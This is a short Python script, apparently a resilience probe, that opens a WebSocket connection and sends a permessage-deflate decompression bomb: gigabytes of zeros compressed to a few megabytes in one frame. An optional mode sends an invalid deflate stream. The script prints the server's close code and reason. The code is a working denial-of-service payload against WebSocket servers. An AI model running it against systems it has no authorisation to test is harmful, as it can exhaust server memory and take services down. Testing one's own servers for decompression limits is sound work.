"""A permessage-deflate bomb: one binary message of GIB GiB of zeros (default 1), compressed
to a few MB, sent to HOST:PORT after a handshake that negotiates deflate. Prints the
server's answer to the offer (`extensions: ...`), then `close CODE` for the close frame it
got back (or `close none` if the socket closed without one).

Usage: deflate_bomb.py HOST:PORT [GIB | --garbage]
--garbage sends a compressed frame that is not deflate at all. After `close CODE` comes a
line `reason REASON`.
"""
import base64
import os
import socket
import struct
import sys
import zlib

host, port = sys.argv[1].rsplit(":", 1)
garbage = "--garbage" in sys.argv
gib = int(sys.argv[2]) if len(sys.argv) > 2 and not garbage else 1

s = socket.create_connection((host, int(port)), timeout=30)
key = base64.b64encode(os.urandom(16)).decode()
s.sendall(
    (
        f"GET / HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
    ).encode()
)
head = b""
while b"\r\n\r\n" not in head:
    b = s.recv(1)
    if not b:
        break
    head += b
ext = [l.split(":", 1)[1].strip() for l in head.decode().split("\r\n") if l.lower().startswith("sec-websocket-extensions:")]
print("extensions:", ext[0] if ext else "none", flush=True)

if garbage:
    payload = b"\xff" * 64  # block type 3: invalid in any deflate stream
else:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(1 << 20)
    payload = b"".join(c.compress(zeros) for _ in range(gib * 1024)) + c.flush(zlib.Z_SYNC_FLUSH)
    payload = payload[:-4]  # RFC 7692 §7.2.1: drop the 00 00 ff ff tail
print(f"sending {len(payload)} compressed bytes", flush=True)
mask = os.urandom(4)
header = bytes([0x80 | 0x40 | 0x2, 0x80 | 127]) + struct.pack(">Q", len(payload)) + mask
keystream = (mask * (len(payload) // 4 + 1))[: len(payload)]
body = (int.from_bytes(payload, "big") ^ int.from_bytes(keystream, "big")).to_bytes(len(payload), "big")
try:
    s.sendall(header + body)
except OSError as e:
    print(f"send stopped: {e}", flush=True)


def read_exact(n):
    out = b""
    while len(out) < n:
        b = s.recv(n - len(out))
        if not b:
            return None
        out += b
    return out


code, reason = "none", ""
try:
    while True:
        h = read_exact(2)
        if h is None:
            break
        n = h[1] & 0x7F
        if n == 126:
            n = struct.unpack(">H", read_exact(2))[0]
        elif n == 127:
            n = struct.unpack(">Q", read_exact(8))[0]
        body = read_exact(n)
        if h[0] & 0x0F == 8:
            code = struct.unpack(">H", body[:2])[0] if body and len(body) >= 2 else "none"
            reason = body[2:].decode(errors="replace") if body else ""
            break
except OSError as e:
    print(f"read stopped: {e}", flush=True)
print(f"close {code}", flush=True)
print(f"reason {reason}", flush=True)
